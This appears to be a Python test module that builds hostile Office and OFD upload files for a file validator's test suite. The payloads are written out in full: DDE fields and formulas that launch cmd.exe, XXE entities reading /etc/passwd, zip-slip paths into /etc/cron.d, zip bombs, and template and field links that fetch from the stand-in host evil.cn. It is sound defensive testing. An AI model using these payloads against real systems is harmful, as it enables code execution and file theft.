"""Hostile office files: Word, Excel and OFD, and the ZIP around them; rows as in hostile.py."""

import zipfile

from tests.casework.uploads import pdfs
from tests.casework.uploads.offices import PLACE, body, flagged, linked, ofd, office, parts, relations, smuggled, zipped
from tests.casework.uploads.offices import types as content_types

WORD, EXCEL, OFD = ("docx",), ("xlsx",), ("ofd",)
EXE = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode."
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
NOT_WORD, BROKEN, AROUND = "的内容不是Word", "打不开", "前后夹带了别的内容"
FETCHING = (
    'INCLUDEPICTURE "https://evil.cn/a.png" \\* MERGEFORMATINET', 'INCLUDETEXT "\\\\evil.cn\\share\\a.docx"',
    'LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1!R1C1"', "IMPORT https://evil.cn/a.png",
)  # fmt: skip


def told(field):
    """A field of its own."""
    return f"<w:r><w:instrText>{field}</w:instrText></w:r>"


def office_parts():
    """Word and Excel files whose parts act, embed or reach outside."""
    macro = {
        k: f"application/vnd.ms-{v}.macroEnabled.main+xml"
        for k, v in (("docx", "word.document"), ("xlsx", "excel.sheet"))
    }
    xxe = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = b'<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'
    vba = '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ole = '<Override PartName="/word/b.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    dde = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    split = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>"
    codes = " ".join(str(ord(letter)) for letter in "DDEAUTO cmd")
    quoted = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told(f"QUOTE {codes}")}'
    sheet = parts("xlsx")["xl/worksheets/sheet1.xml"].replace(b"<v>", b"<f>cmd|' /C calc'!A0</f><v>")
    link = b'<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic=" /C calc"/></externalLink>'
    away = "https://evil.cn/a"
    cases = []
    for kind in ("docx", "xlsx"):
        folder = PLACE[kind].split("/")[0]
        cases += [
            (f"{kind}-vba", kind, office(kind, {f"{folder}/vbaProject.bin": OLE}), "里有宏"),
            (f"{kind}-vba-case", kind, office(kind, {f"{folder}/VBAPROJECT.BIN": OLE}), "里有宏"),
            (f"{kind}-macro-type", kind, office(kind, main=macro[kind]), "里有宏"),
            (f"{kind}-activex", kind, office(kind, {f"{folder}/activeX/activeX1.bin": OLE}), "嵌入了别的对象"),
            (f"{kind}-embedding", kind, office(kind, {f"{folder}/embeddings/oleObject1.bin": OLE}), "嵌入了别的对象"),
            (f"{kind}-program", kind, office(kind, {f"{folder}/media/a.exe": EXE}), "夹带了程序"),
            (f"{kind}-image-away", kind, office(kind, links=[("image", away, True)]), "引用了外面的内容"),
            (f"{kind}-ole-away", kind, office(kind, links=[("oleObject", away, True)]), "引用了外面的内容"),
            (f"{kind}-xxe", kind, office(kind, {PLACE[kind]: xxe}), "不安全的定义"),
            (f"{kind}-xxe-rels", kind, office(kind, {"_rels/.rels": xxe}), "不安全的定义"),
            (f"{kind}-laughs", kind, office(kind, {"docProps/app.xml": laughs}), "不安全的定义"),
            (f"{kind}-broken-xml", kind, office(kind, {PLACE[kind]: b"<a><b></a>"}), "内容已经损坏"),
            (f"{kind}-no-types", kind, office(kind, without=["[Content_Types].xml"]), "不是完整的"),
            (f"{kind}-no-main", kind, office(kind, without=[PLACE[kind]]), "不是完整的"),
        ]
    cases += [
        ("docx-vba-renamed", "docx", office("docx", {"word/a.bin": OLE}, more=vba), "里有宏"),
        ("docx-ole-renamed", "docx", office("docx", {"word/b.bin": OLE}, more=ole), "嵌入了别的对象"),
        ("docx-template", "docx", office("docx", links=[("attachedTemplate", away, True)]), "引用了外面的内容"),
        (
            "docx-template-share",
            "docx",
            office("docx", links=[("attachedTemplate", "file://evil/a.dotm", True)]),
            "引用了外面的内容",
        ),
        (
            "docx-template-unmarked",
            "docx",
            office("docx", links=[("attachedTemplate", away, False)]),
            "引用了外面的内容",
        ),
        (
            "docx-chunk",
            "docx",
            office("docx", {"word/a.html": HTML}, links=[("aFChunk", "a.html", False)]),
            "嵌入了别的对象",
        ),
        (
            "docx-link-script",
            "docx",
            office("docx", links=[("hyperlink", "javascript:alert(1)", True)]),
            "不安全的链接",
        ),
        ("docx-dde", "docx", office("docx", {PLACE["docx"]: body(inner=dde)}), "自动运行"),
        ("docx-dde-quoted", "docx", office("docx", {PLACE["docx"]: body(inner=quoted)}), "自动运行"),
        *(
            (f"docx-fetch-{n}", "docx", office("docx", {PLACE["docx"]: body(inner=told(field))}), "引用了外面的内容")
            for n, field in enumerate(FETCHING)
        ),
        ("docx-dde-split", "docx", office("docx", {PLACE["docx"]: body(inner=split)}), "自动运行"),
        ("xlsx-dde", "xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "自动运行"),
        ("xlsx-dde-formula", "xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet}), "自动运行"),
        ("xlsx-macrosheet", "xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "里有宏"),
        ("xlsx-link-away", "xlsx", office("xlsx", links=[("externalLinkPath", away, True)]), "引用了外面的内容"),
        ("xlsx-as-docx", "docx", office("xlsx"), "不是完整的Word文档"),
        ("docx-as-xlsx", "xlsx", office("docx"), "不是完整的Excel表格"),
    ]
    return [(case, f"名单.{kind}", data, (kind,), said) for case, kind, data, said in cases]


def zip_shapes():
    """Containers that are themselves a trick."""
    found, plain = list(parts("docx").items()), office("docx")
    broken = bytearray(office("docx", {"word/long.xml": b"<a>" + b"text " * 400 + b"</a>"}))
    middle = broken.index(b"word/long.xml") + 20
    broken[middle : middle + 12] = b"\xff" * 12
    many = [(f"word/media/{i}.png", b"") for i in range(2001 - len(found))]
    cases = [
        ("bomb", office("docx", {"word/media/a.bmp": b"\0" * 30_000_000}), "展开后太大"),
        ("bomb-total", zipped(found + [(f"word/media/{i}.bmp", b"\0" * 1_000_000) for i in range(210)]), "展开后太大"),
        ("slip", office("docx", {"../../etc/cron.d/a": b"x"}), "指向外面的路径"),
        ("slip-backslash", office("docx", {"..\\..\\a.txt": b"x"}), "指向外面的路径"),
        ("absolute", office("docx", {"/etc/passwd": b"x"}), "指向外面的路径"),
        ("drive", office("docx", {"C:/windows/a.txt": b"x"}), "指向外面的路径"),
        ("duplicate", zipped([*found, found[2]]), "重复的部分"),
        ("duplicate-case", zipped([*found, ("WORD/Document.xml", b"<a/>")]), "重复的部分"),
        ("symlink", linked(), "里有链接"),
        ("locked", flagged(plain), "加了密码"),
        ("trailing", plain + EXE, AROUND),
        ("trailing-one", plain + b"\0", AROUND),
        ("leading-exe", EXE + plain, NOT_WORD),
        ("leading-zip", zipped([("a.exe", EXE)]) + plain, AROUND),
        ("smuggled", smuggled(plain), AROUND),
        ("2001-entries", zipped(found + many), "文件太多"),
        ("truncated", plain[:-200], BROKEN),
        ("corrupt", bytes(broken), BROKEN),
        ("empty-zip", b"PK\x05\x06" + b"\0" * 18, NOT_WORD),
        ("old-inside", OLE, NOT_WORD),
        ("pdf-as", pdfs.pdf(), NOT_WORD),
        ("lzma", office("docx", method=zipfile.ZIP_LZMA), BROKEN),
        (
            "macro-rels",
            office(
                "docx",
                {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.cn/a.dotm", True))},
            ),
            "引用了外面的内容",
        ),
        ("types-empty", office("docx", {"[Content_Types].xml": b""}), "内容已经损坏"),
        (
            "types-macro-case",
            office(
                "docx",
                {
                    "[Content_Types].xml": content_types(
                        "docx", "application/vnd.ms-word.document.MACROENABLED.main+xml"
                    )
                },
            ),
            "里有宏",
        ),
    ]
    return [(f"zip-{case}", "章程.docx", data, WORD, said) for case, data, said in cases]


def ofd_files():
    """OFD files."""
    xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    cases = [
        ("no-main", ofd(without=["OFD.xml"]), "不是完整的OFD文件"),
        ("docx", office("docx"), "不是完整的OFD文件"),
        ("xxe", ofd({"OFD.xml": xxe}), "不安全的定义"),
        ("program", ofd({"Doc_0/Attachs/a.exe": EXE}), "夹带了程序"),
        ("slip", ofd({"Doc_0/../../a": b"x"}), "指向外面的路径"),
        ("pdf", pdfs.pdf(), "的内容不是OFD"),
    ]
    return [(f"ofd-{case}", "批复.ofd", data, OFD, said) for case, data, said in cases]
